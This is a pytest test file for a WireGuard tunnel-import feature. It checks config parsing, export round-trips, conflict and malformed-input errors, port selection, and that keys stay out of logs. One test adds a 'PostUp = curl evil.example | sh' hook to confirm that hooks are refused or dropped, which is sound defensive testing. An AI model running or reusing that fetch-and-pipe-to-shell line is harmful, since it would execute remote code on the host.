"""tunnel.import: what real programs write becomes a tunnel, and nothing of it is dropped in silence."""

from pathlib import Path
from typing import Any

import msgspec
import pytest
from tests.unit.features.conftest import Call
from tests.unit.formats.configs import CASES, OTHER, PRESHARED, PRIVATE, PUBLIC, SMALL

from resource_wireguard.engine.engine import Engine
from resource_wireguard.errors import AlreadyExists, ConflictError, InvalidInput, ResourceError
from resource_wireguard.features.tunnel.exchange import Import
from resource_wireguard.host.state import Device, Link, Route
from resource_wireguard.model.formats.config import WgQuickConfig
from resource_wireguard.model.formats.wgquick import parse
from resource_wireguard.model.settings import Settings
from resource_wireguard.model.specs import NO_TABLE, TunnelSpec
from resource_wireguard.system.fake import FakeHost
from resource_wireguard.system.fake_kernel import UdpSocket

FULL = f"""[Interface]
PrivateKey = {PRIVATE}
Address = 10.13.13.1/24, fd00::1/64
ListenPort = 4500
FwMark = 0xca6c
DNS = 10.13.13.53, corp.example.org
MTU = 1380
Table = 1234
[Peer] # Anna (phone)
PublicKey = {PUBLIC}
PresharedKey = {PRESHARED}
AllowedIPs = 10.13.13.2/32, fd00::2/128, 192.168.7.0/24
Endpoint = vpn.example.org:51820
PersistentKeepalive = 25
[Peer]
PublicKey = {OTHER}
AllowedIPs = 192.168.0.0/16
"""


def spec(engine: Engine, name: str = "home") -> TunnelSpec:
    return engine.specs().tunnel(name)


def test_every_key_has_its_place(call: Call, engine: Engine) -> None:
    answer = call("tunnel.import", name="home", text=FULL)
    tunnel = spec(engine)
    anna, other = tunnel.peers
    assert (answer["tunnel"]["state"], answer["tunnel"]["interface"]) == ("inactive", "wg-home")
    assert tunnel.private_key.reveal() == PRIVATE
    assert (tunnel.listen_port, tunnel.fwmark, tunnel.mtu, tunnel.table) == (4500, 0xCA6C, 1380, 1234)
    assert tunnel.addresses == ("10.13.13.1/24", "fd00::1/64")
    assert tunnel.host_dns == ("10.13.13.53", "corp.example.org")
    assert (anna.name, other.name) == ("Anna-phone", f"peer-{OTHER[:8]}")
    assert anna.preshared_key and anna.preshared_key.reveal() == PRESHARED
    assert anna.addresses == ("10.13.13.2/32", "fd00::2/128")
    assert anna.allowed_ips == {"10.13.13.2/32", "fd00::2/128", "192.168.7.0/24"}
    assert (str(anna.endpoint), anna.keepalive) == ("vpn.example.org:51820", 25)
    assert (other.addresses, other.endpoint, other.keepalive) == ((), None, 0)
    assert any("DNS is kept" in note for note in answer["notes"])


def in_order(config: WgQuickConfig) -> WgQuickConfig:
    """The config with each peer's allowed IPs in one order: to WireGuard they have none."""
    peers = (msgspec.structs.replace(p, allowed_ips=tuple(sorted(p.allowed_ips))) for p in config.peers)
    return msgspec.structs.replace(config, peers=tuple(peers))


@pytest.mark.parametrize("file", sorted(CASES.iterdir()), ids=lambda path: path.stem)
def test_every_real_config_comes_in_and_goes_out_the_same(call: Call, engine: Engine, file: Path) -> None:
    """Import, export, import: the same tunnel, and in the file the same config but for what notes say."""
    text = file.read_text(encoding="utf-8-sig")
    first = call("tunnel.import", name="home", text=text, ignore_hooks=True)
    before = spec(engine)
    written = call("tunnel.config", name="home", show_secrets=True)["config"]
    call("tunnel.delete", name="home")
    again = call("tunnel.import", name="home", text=written)
    assert spec(engine) == msgspec.structs.replace(before, created_at=spec(engine).created_at)
    assert not [note for note in again["notes"] if "left out" in note]
    said = parse(text)
    assert bool(said.hooks) == any("left out" in note for note in first["notes"])
    assert said.interface.save_config == any("SaveConfig" in note for note in first["notes"])
    port = said.interface.listen_port or before.listen_port
    names = [peer.name for peer in before.peers]
    interface = msgspec.structs.replace(said.interface, listen_port=port, save_config=False)
    peers = tuple(msgspec.structs.replace(p, name=n) for p, n in zip(said.peers, names, strict=True))
    wanted = msgspec.structs.replace(said, interface=interface, peers=peers, hooks=())
    assert in_order(parse(written)) == in_order(wanted)


@pytest.mark.parametrize("file", sorted(CASES.iterdir()), ids=lambda path: path.stem)
def test_every_real_config_comes_up(call: Call, host: FakeHost, file: Path) -> None:
    text = file.read_text(encoding="utf-8-sig")
    call("tunnel.import", name="home", text=text, ignore_hooks=True)
    up = call("tunnel.activate", name="home")
    assert (up["state"], up["drift"]) == ("up", [])
    said, state = parse(text).interface, host.observe().state
    (device,) = state.of(Device).values()
    assert device.private_key == said.private_key
    if said.table == "off":
        assert not state.of(Route)
    elif said.table.isdecimal():
        assert {route.table for route in state.of(Route).values()} == {int(said.table)}
    if said.fwmark:
        assert device.fwmark == said.fwmark


def test_hooks_are_refused_by_line_and_left_out_by_name(call: Call, engine: Engine) -> None:
    text = SMALL.replace("Address", "PostUp = curl evil.example | sh\nPreDown = true\nAddress")
    with pytest.raises(InvalidInput, match=r"PostUp \(line 3\), PreDown \(line 4\)") as refused:
        call("tunnel.import", name="home", text=text)
    assert "--ignore-hooks" in refused.value.hint
    assert "evil" not in refused.value.message
    assert engine.specs().tunnels == ()
    notes = call("tunnel.import", name="home", text=text, ignore_hooks=True)["notes"]
    assert "left out: PostUp (line 3), PreDown (line 4)" in notes


def peers(*sections: str) -> str:
    head = f"[Interface]\nPrivateKey = {PRIVATE}\nAddress = 10.0.0.1/24\nListenPort = 4500\n"
    return head + "".join(f"[Peer]\n{section}\n" for section in sections)


def test_nested_networks_are_two_sites_and_can_be_changed_later(call: Call, host: FakeHost) -> None:
    text = peers(
        f"PublicKey = {PUBLIC}\nAllowedIPs = 10.0.0.0/8", f"PublicKey = {OTHER}\nAllowedIPs = 10.7.0.0/16"
    )
    call("tunnel.import", name="home", text=text)
    assert call("tunnel.activate", name="home")["state"] == "up"
    assert {r.prefix for r in host.observe().state.of(Route).values()} == {"10.0.0.0/8", "10.7.0.0/16"}
    name = call("peer.list", tunnel="home")[1]["name"]
    assert call("peer.change", tunnel="home", name=name, keepalive=25)["keepalive"] == 25


@pytest.mark.parametrize(
    ("text", "error", "message"),
    [
        (
            peers(*(f"PublicKey = {key}\nAllowedIPs = 10.0.0.2" for key in (PUBLIC, OTHER))),
            ConflictError,
            r"10\.0\.0\.2/32 is both of",
        ),
        (peers(f"PublicKey = {PUBLIC}", f"PublicKey = {PUBLIC}"), InvalidInput, "PublicKey is the same"),
        (SMALL.replace("Address", "Table = vpn\nAddress"), InvalidInput, "Table 'vpn' is a name"),
        (SMALL.replace("Address", "ListenPort = 51820\nAddress"), ConflictError, "tunnel 'first'"),
        (SMALL.replace("[Interface]", ""), InvalidInput, "line 2: .* before any section"),
        (f"[Peer]\nPublicKey = {PUBLIC}", InvalidInput, r"no \[Interface\]"),
        ("", InvalidInput, r"no \[Interface\]"),
        ("\0" * 1000, InvalidInput, "line 1: a NUL byte"),
        (
            SMALL.replace("Address", "MTU = 1400\nMTU = 1380\nAddress"),
            InvalidInput,
            "MTU stands here and",
        ),
        (SMALL[:-20], InvalidInput, "line 7: this line is no"),
        ("tunnels:\n  - name: home\n", InvalidInput, "line 1"),
        (SMALL.replace("Address", "Addres"), InvalidInput, "did you mean Address|unknown key"),
    ],
    ids=[
        *("same allowed IPs", "same peer", "table name", "port of another", "interface lost", "no interface"),
        *("empty", "zeros", "twice", "half-written", "yaml", "misspelt"),
    ],
)
def test_what_is_wrong_is_refused_whole(
    call: Call, engine: Engine, text: str, error: type[ResourceError], message: str
) -> None:
    call("tunnel.create", name="first")
    before = engine.specs()
    with pytest.raises(error, match=message) as refused:
        call("tunnel.import", name="home", text=text)
    assert "\n" not in refused.value.message
    assert engine.specs().tunnels == before.tunnels


def test_crlf_and_bom_are_no_fault(call: Call, engine: Engine) -> None:
    call("tunnel.import", name="home", text="\ufeff" + SMALL.replace("\n", "\r\n"))
    assert spec(engine).addresses == ("10.13.13.1/24",)


def test_names_in_use_are_refused_with_the_way_out(call: Call, host: FakeHost, home: Any) -> None:
    with pytest.raises(AlreadyExists):
        call("tunnel.import", name="home", text=SMALL)
    host.place_foreign(Link("wg0", "", "kernel", 1420))
    with pytest.raises(ConflictError, match="wg0 exists") as refused:
        call("tunnel.import", name="wg0", text=SMALL)
    assert "adopt" in refused.value.hint


def test_names_from_comments_are_unique(call: Call, engine: Engine) -> None:
    text = peers(
        f"# Name = Anna\nPublicKey = {PUBLIC}",
        f"# Name = Anna\nPublicKey = {OTHER}",
        f"# Name = ___\nPublicKey = {PRESHARED}",
    )
    call("tunnel.import", name="home", text=text)
    assert [peer.name for peer in spec(engine).peers] == ["Anna", "Anna-2", f"peer-{PRESHARED[:8]}"]


def test_a_file_without_a_port_gets_a_free_one_and_a_busy_one_is_noted(call: Call, host: FakeHost) -> None:
    host.place_foreign(UdpSocket(51820), UdpSocket(4500))
    answer = call("tunnel.import", name="home", text=SMALL)
    assert answer["tunnel"]["listen_port"] == 51821
    assert any("no ListenPort" in note for note in answer["notes"])
    busy = SMALL.replace("Address = 10.13.13.1/24", "ListenPort = 4500")
    notes = call("tunnel.import", name="other", text=busy)["notes"]
    assert any("4500 is in use" in note for note in notes)
    assert any("no Address" in note for note in notes)


@pytest.mark.parametrize("settings", [Settings(peers_max=1)])
def test_no_more_peers_than_the_setting_allows(call: Call, engine: Engine) -> None:
    with pytest.raises(ConflictError, match="WIREGUARD_PEERS_MAX"):
        call("tunnel.import", name="home", text=FULL)
    assert engine.specs().tunnels == ()


def test_table_off_makes_no_routes_and_no_rules(call: Call, engine: Engine, host: FakeHost) -> None:
    everything = f"PublicKey = {PUBLIC}\nAllowedIPs = 0.0.0.0/0, 10.9.0.0/16"
    call(
        "tunnel.import", name="home", text=peers(everything).replace("ListenPort", "Table = off\nListenPort")
    )
    assert spec(engine).table == NO_TABLE
    assert call("tunnel.activate", name="home")["state"] == "up"
    records = [record for kind in host.observe().state.objects.values() for record in kind.values()]
    assert {type(record).__name__ for record in records} == {"Link", "Device", "Peer", "Address"}


def test_keys_are_in_no_journal_and_no_repr(call: Call, engine: Engine) -> None:
    call("tunnel.import", name="home", text=FULL)
    lines = engine.resources.store.query("SELECT * FROM journal")
    assert any("imported" in str(line) for line in lines)
    told = f"{lines} {Import(name='home', text=FULL)!r}"
    assert not [key for key in (PRIVATE, PRESHARED) if key in told]
